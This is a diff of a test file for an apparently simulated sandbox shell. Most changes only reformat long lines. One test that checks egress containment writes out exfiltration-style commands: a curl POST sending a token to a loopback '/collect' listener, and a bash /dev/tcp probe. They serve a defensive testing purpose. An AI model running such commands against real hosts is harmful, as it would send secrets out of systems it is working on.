@@ -28,7 +28,13 @@ describe('simulated shell (the default runner)', () => {
     const h = await harness(shellEnvironment);
     expect(h.state.runner.name).toBe('simulated');
     const r = await run(h, 'pwd; echo out; echo err >&2; exit 3');
-    expect(r).toEqual({ command: 'pwd; echo out; echo err >&2; exit 3', cwd: SANDBOX_WORKSPACE, exitCode: 3, stdout: `${SANDBOX_WORKSPACE}\nout\n`, stderr: 'err\n' });
+    expect(r).toEqual({
+      command: 'pwd; echo out; echo err >&2; exit 3',
+      cwd: SANDBOX_WORKSPACE,
+      exitCode: 3,
+      stdout: `${SANDBOX_WORKSPACE}\nout\n`,
+      stderr: 'err\n',
+    });
     expect((await run(h, 'false')).exitCode).toBe(1);
     expect((await h.snapshot()).commands).toEqual([
       { id: 'cmd-1', command: 'pwd; echo out; echo err >&2; exit 3', exitCode: 3, timedOut: false },
@@ -40,7 +46,9 @@ describe('simulated shell (the default runner)', () => {
     const backend = new InProcessBackend();
     await using sandbox = await backend.start({ environments: ['files', 'shell'] });
     await sandbox.apply({ op: 'files.write', args: { path: '/src/app.txt', content: 'v1\n' } }, 0);
-    const r = await sandbox.callTool('run_command', { command: 'cat src/app.txt && sed -i s/v1/v2/ src/app.txt && mkdir -p out && echo built > out/result.txt; ls out' });
+    const r = await sandbox.callTool('run_command', {
+      command: 'cat src/app.txt && sed -i s/v1/v2/ src/app.txt && mkdir -p out && echo built > out/result.txt; ls out',
+    });
     expect(r).toMatchObject({ isError: false, value: { exitCode: 0, stdout: 'v1\nresult.txt\n' } });
     expect(await readFile(join(sandbox.workspace, 'src/app.txt'), 'utf8')).toBe('v2\n');
     const snap = (await sandbox.snapshot()) as any;
@@ -52,7 +60,11 @@ describe('simulated shell (the default runner)', () => {
 
   it('runs scripts from the workspace with sh, bash and ./script, pipes, loops and the usual tools', async () => {
     const h = await harness(shellEnvironment);
-    await h.op('write', { path: '/scripts/test.sh', content: '#!/bin/sh\nfor t in cart checkout; do echo "$t.test ... ok"; done\necho "2 passed"\n', executable: true });
+    await h.op('write', {
+      path: '/scripts/test.sh',
+      content: '#!/bin/sh\nfor t in cart checkout; do echo "$t.test ... ok"; done\necho "2 passed"\n',
+      executable: true,
+    });
     expect((await run(h, 'sh scripts/test.sh')).stdout).toBe('cart.test ... ok\ncheckout.test ... ok\n2 passed\n');
     expect((await run(h, './scripts/test.sh | grep -c ok')).stdout).toBe('2\n');
     expect((await run(h, `echo '{"a":[1,2,3]}' | jq '.a | add'`)).stdout).toBe('6\n');
@@ -109,7 +121,12 @@ describe('simulated shell (the default runner)', () => {
     it('a curl to a listener on the host loopback is recorded and never reaches it (the probe reaches it unconfined)', async () => {
       const command = `curl -s -X POST -d 'token=abc' http://127.0.0.1:${listener.port}/collect && echo SENT`;
       // Control: the same command run by a real shell reaches the port, so the test can tell.
-      const direct = await createDirectShellRunner().run({ command: `bash -c 'echo probe > /dev/tcp/127.0.0.1/${listener.port}' && echo CONNECTED`, workspace: await tempDir(), timeoutMs: 10_000, maxOutputBytes: 4096 });
+      const direct = await createDirectShellRunner().run({
+        command: `bash -c 'echo probe > /dev/tcp/127.0.0.1/${listener.port}' && echo CONNECTED`,
+        workspace: await tempDir(),
+        timeoutMs: 10_000,
+        maxOutputBytes: 4096,
+      });
       expect(direct.stdout).toBe('CONNECTED\n');
       await new Promise((r) => setTimeout(r, 50));
       const before = listener.connections;
@@ -121,10 +138,22 @@ describe('simulated shell (the default runner)', () => {
       await new Promise((r2) => setTimeout(r2, 50));
       expect(listener.connections).toBe(before);
       expect(h.egress).toEqual([
-        { channel: 'http', destination: `http://127.0.0.1:${listener.port}/collect`, content: expect.stringMatching(/^POST http:\/\/127\.0\.0\.1:\d+\/collect\n[\s\S]*\n\ntoken=abc$/) },
+        {
+          channel: 'http',
+          destination: `http://127.0.0.1:${listener.port}/collect`,
+          content: expect.stringMatching(/^POST http:\/\/127\.0\.0\.1:\d+\/collect\n[\s\S]*\n\ntoken=abc$/),
+        },
       ]);
       expect((await h.snapshot()).requests).toEqual([
-        { id: 'http-1', command: 'cmd-1', method: 'POST', url: `http://127.0.0.1:${listener.port}/collect`, headers: expect.any(Object), body: 'token=abc', status: 200 },
+        {
+          id: 'http-1',
+          command: 'cmd-1',
+          method: 'POST',
+          url: `http://127.0.0.1:${listener.port}/collect`,
+          headers: expect.any(Object),
+          body: 'token=abc',
+          status: 200,
+        },
       ]);
     });
 
@@ -154,7 +183,7 @@ describe('simulated shell (the default runner)', () => {
       expect(snap.files['/installed.txt']).toEqual({ content: 'installed\n', size: 10 });
     });
 
-    it('setup commands may use the network too, recorded as state but never as the agent\'s egress', async () => {
+    it("setup commands may use the network too, recorded as state but never as the agent's egress", async () => {
       const h = await harness(shellEnvironment);
       await h.op('run', { command: 'curl -s https://mirror.example/setup' });
       expect(h.egress).toEqual([]);
